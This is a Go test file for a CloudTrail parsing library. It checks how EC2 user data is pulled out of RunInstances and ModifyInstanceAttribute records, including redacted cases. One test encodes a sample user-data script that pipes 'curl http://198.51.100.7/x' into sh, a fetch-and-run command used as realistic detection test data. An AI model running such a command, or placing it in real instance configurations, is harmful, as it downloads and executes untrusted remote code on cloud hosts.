package ec2_test

import (
	"encoding/base64"
	"fmt"
	"slices"
	"testing"

	"github.com/trailtype/cloudtrail/cloudtrailtest"
	"github.com/trailtype/cloudtrail/services/ec2"
)

// Record 42: ModifyInstanceAttribute with the user data redacted, written as a bare string where
// the model has a structure.
func TestUserDataOnRecords(t *testing.T) {
	u, ok := ec2.UserDataOf(recordCall(t, 42))
	if !ok || !u.Redacted() || !slices.Equal(u.InstanceIDs, []string{"i-012345abcde"}) {
		t.Errorf("record 42: %+v, %v", u, ok)
	}
	if _, ok := u.Decoded(); ok {
		t.Error("redacted user data decoded")
	}
	if _, ok := ec2.UserDataOf(recordCall(t, 29)); ok {
		t.Error("record 29 (RunInstances without user data) has user data")
	}
}

func TestUserDataBuilt(t *testing.T) {
	script := base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl http://198.51.100.7/x | sh\n"))
	who := cloudtrailtest.By(cloudtrailtest.IAMUser("111122223333", "alice"))
	run := built(t, cloudtrailtest.NewEvent(ec2.EventSource, "RunInstances", who,
		cloudtrailtest.Request(map[string]any{"instancesSet": map[string]any{"items": []any{map[string]any{"imageId": "ami-1", "minCount": 1, "maxCount": 1}}}, "userData": script}),
		cloudtrailtest.Response(map[string]any{"instancesSet": map[string]any{"items": []any{map[string]any{"instanceId": "i-1"}}}})))
	u, ok := ec2.UserDataOf(run)
	data, decoded := u.Decoded()
	if !ok || u.Redacted() || !decoded || string(data) != "#!/bin/sh\ncurl http://198.51.100.7/x | sh\n" || !slices.Equal(u.InstanceIDs, []string{"i-1"}) {
		t.Errorf("RunInstances: %+v %q", u, data)
	}
	modify := built(t, cloudtrailtest.NewEvent(ec2.EventSource, "ModifyInstanceAttribute", who,
		cloudtrailtest.Request(map[string]any{"instanceId": "i-2", "userData": map[string]any{"value": script}})))
	if u, ok := ec2.UserDataOf(modify); !ok || u.Recorded != script {
		t.Errorf("ModifyInstanceAttribute: %+v", u)
	}
}

// User data set on instances: CloudTrail mostly leaves it out, so the call itself is the signal.
func ExampleUserDataOf() {
	for i, ev := range examples() {
		call, err := ec2.Parse(ev)
		if err != nil {
			continue
		}
		if u, ok := ec2.UserDataOf(call); ok {
			fmt.Printf("record %d: %s set user data on %v (redacted: %v)\n", i, ev.Actor(), u.InstanceIDs, u.Redacted())
		}
	}
	// Output: record 42: arn:aws:iam::0123456789:role/CodeBuild-US-East set user data on [i-012345abcde] (redacted: true)
}
